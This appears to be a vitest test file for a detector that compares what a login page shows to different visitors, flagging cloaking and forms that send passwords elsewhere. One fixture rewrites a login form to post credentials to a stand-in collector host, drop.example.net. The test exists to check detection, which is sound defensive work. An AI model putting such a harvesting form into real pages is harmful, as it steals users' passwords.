import { describe, expect, it } from "vitest";
import { differenceOf } from "./second-look.ts";

const LOGIN = `<title>Sign in</title><form method="post"><input name="user"><input type="password" name="pass"></form>`;
const at = (url: string, html: string, status = 200) => ({ url, html, status });

describe("what a page shows to another visitor", () => {
  const seen = at("https://login.example.com/a", LOGIN);

  it.each([
    ["the same", at("https://login.example.com/a", LOGIN), null],
    ["the log-in for phones", at("https://m.example.com/login", `<h1>Mobile</h1>${LOGIN}`), null],
    ["that it is asked too often", at(seen.url, "", 429), null],
    ["that it is out of order", at(seen.url, "", 503), null],
    ["another site", at("https://www.example.org/", LOGIN), "another site, example.org"],
    ["nothing there", at(seen.url, "<title>Not found</title>", 404), "status 404"],
    ["a shop", at(seen.url, "<title>Flowers</title><p>Tulips</p>"), "a page that asks for no password"],
  ])("is %s", (_what, other, words) => {
    expect(differenceOf(seen, other)).toEqual({ cloaking: words, hiddenCollector: null });
  });

  const collecting = LOGIN.replace("<form", '<form action="https://drop.example.net/collect.php"');
  it.each([
    ["a page without a form", "<title>Flowers</title><p>Tulips</p>"],
    ["a log-in of its own", LOGIN],
  ])("is a log-in that posts elsewhere, where this one is %s", (_what, html) => {
    expect(differenceOf(at(seen.url, html), at(seen.url, collecting))).toEqual({
      cloaking: "a page that posts passwords to drop.example.net",
      hiddenCollector: "drop.example.net",
    });
    expect(differenceOf(at(seen.url, collecting), at(seen.url, collecting)).hiddenCollector).toBeNull();
  });

  it("is nothing where neither asks for a password", () => {
    const nothing = { cloaking: null, hiddenCollector: null };
    expect(differenceOf(at(seen.url, "<p>Tulips</p>"), at("https://www.example.org/", "<p>Roses</p>"))).toEqual(
      nothing,
    );
  });
});
